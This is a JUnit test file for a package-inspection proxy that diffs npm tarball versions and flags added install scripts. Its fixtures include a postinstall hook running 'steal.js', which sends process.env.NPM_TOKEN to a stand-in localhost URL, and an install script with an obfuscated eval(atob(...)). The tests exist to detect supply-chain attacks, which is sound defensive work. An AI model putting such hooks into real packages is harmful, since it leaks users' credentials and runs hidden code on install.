package dev.lazaret.proxy.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.proxy.testing.Tarball;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

class InspectionDiffTest {

  private final TarballInspector inspector = new TarballInspector(InspectionLimits.defaults());

  private Unpacked unpack(Map<String, String> files) {
    return inspector.inspect(Tarball.pack(files.entrySet().stream().collect(Collectors.toMap(
        Map.Entry::getKey, e -> e.getValue().getBytes(StandardCharsets.UTF_8)))).bytes());
  }

  @Test
  void listsAddedRemovedAndChangedFilesWithSizesAndATextDiff() {
    Unpacked before = unpack(Map.of("package.json", "{\"name\":\"a\",\"version\":\"1.0.0\"}",
        "index.js", "one\ntwo\nthree\n", "old.md", "bye"));
    Unpacked after = unpack(Map.of("package.json", "{\"name\":\"a\",\"version\":\"1.0.0\"}",
        "index.js", "one\n2\nthree\n", "new.js", "hello"));

    FilesDiff diff = InspectionDiff.between("1.0.0", before, after);

    assertThat(diff.against()).isEqualTo("1.0.0");
    assertThat(diff.added()).containsExactly(new FilesDiff.File("new.js", 5));
    assertThat(diff.removed()).containsExactly(new FilesDiff.File("old.md", 3));
    assertThat(diff.changed()).singleElement().satisfies(c -> {
      assertThat(c.path()).isEqualTo("index.js");
      assertThat(c.from()).isEqualTo(14);
      assertThat(c.to()).isEqualTo(12);
      assertThat(c.diff()).isEqualTo("@@ -1,4 +1,4 @@\n one\n-two\n+2\n three\n \n");
    });
    assertThat(diff.installScripts().added()).isEmpty();
    assertThat(diff.incomplete()).isNull();
  }

  @Test
  void anAddedInstallScriptComesWithTheFileItRuns() {
    Unpacked before = unpack(Map.of("package.json", "{\"name\":\"a\"}", "index.js", "1"));
    Unpacked after = unpack(Map.of(
        "package.json", "{\"name\":\"a\",\"scripts\":{\"postinstall\":\"node steal.js\"}}",
        "index.js", "1", "steal.js", "fetch('http://127.0.0.1/' + process.env.NPM_TOKEN)"));

    FilesDiff diff = InspectionDiff.between("1.0.0", before, after);

    assertThat(diff.installScripts().added()).containsEntry("postinstall", "node steal.js");
    assertThat(diff.scriptFiles()).containsEntry("steal.js",
        "fetch('http://127.0.0.1/' + process.env.NPM_TOKEN)");
    assertThat(diff.added()).extracting(FilesDiff.File::path).containsExactly("steal.js");
  }

  @Test
  void theSameScriptRunningAChangedFileShowsTheFile() {
    String json = "{\"name\":\"a\",\"scripts\":{\"postinstall\":\"node install.js\"}}";
    Unpacked before = unpack(Map.of("package.json", json, "install.js", "build();"));
    Unpacked same = unpack(Map.of("package.json", json, "install.js", "build();"));
    Unpacked after = unpack(Map.of("package.json", json,
        "install.js", "build(); eval(atob('ZXZpbA=='));"));

    assertThat(InspectionDiff.between("1.0.0", before, same).scriptFiles()).isEmpty();
    FilesDiff diff = InspectionDiff.between("1.0.0", before, after);
    assertThat(diff.installScripts().changed()).isEmpty();
    assertThat(diff.scriptFiles()).containsEntry("install.js",
        "build(); eval(atob('ZXZpbA=='));");
  }

  @Test
  void aLongTextDiffIsCutWithACount() {
    String before = IntStream.range(0, 1000).mapToObj(i -> "line " + i)
        .collect(Collectors.joining("\n"));
    String after = IntStream.range(0, 1000).mapToObj(i -> "changed " + i)
        .collect(Collectors.joining("\n"));

    String diff = LineDiff.unified(before, after, 50, 1 << 20);

    assertThat(diff.lines()).hasSize(51);
    assertThat(diff).endsWith("... 1951 more lines\n");
  }

  @Test
  void aTextDiffIsBoundedInCharactersToo() {
    String diff = LineDiff.unified("a", "b".repeat(10_000), 100, 1000);

    assertThat(diff.length()).isLessThan(1100);
    assertThat(diff).contains("more lines");
  }

  @Test
  void withoutAPreviousVersionEveryFileIsAdded() {
    FilesDiff diff = InspectionDiff.between(null, null, unpack(Map.of("index.js", "1")));

    assertThat(diff.added()).extracting(FilesDiff.File::path).containsExactly("index.js");
  }
}
